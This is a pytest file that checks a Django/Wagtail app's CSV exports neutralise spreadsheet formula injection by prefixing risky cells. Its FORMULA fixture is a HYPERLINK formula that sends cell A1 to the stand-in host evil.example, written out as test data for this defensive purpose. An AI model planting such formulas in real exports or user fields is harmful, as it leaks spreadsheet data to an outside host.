"""One CSV writer for every export: formula cells neutralised in the Wagtail admin's People
and Enrollments exports as in the instructor CSVs and the gradebook."""

import csv
import io

import pytest

from core.spreadsheet import csv_cell, csv_writer
from learners.models import Enrollment
from tests.factories import make_user

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+27 82 555", "'+27 82 555"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        (None, ""),
        (-5, -5),
        (3.5, 3.5),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerow([FORMULA, 7, "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + FORMULA, "7", "ok"]


@pytest.mark.django_db
def test_wagtail_people_export_neutralises_formulas(client, admin_user):
    make_user(email="mallory@example.test", first_name=FORMULA, last_name="-cmd")
    client.force_login(admin_user)
    response = client.get("/admin/people/?export=csv")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    row = next(r for r in rows if r[0] == "mallory@example.test")
    assert row[1] == "'" + FORMULA and row[2] == "'-cmd"


@pytest.mark.django_db
def test_wagtail_enrollments_export_neutralises_formulas(client, admin_user, free_course):
    mallory = make_user(email="m@example.test", first_name="=1+2", last_name="")
    Enrollment.objects.create(user=mallory, course=free_course)
    client.force_login(admin_user)
    response = client.get("/admin/learning_enrollments/?export=csv")
    body = b"".join(response.streaming_content).decode()
    assert "=1+2" in body
    for row in csv.reader(io.StringIO(body)):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row
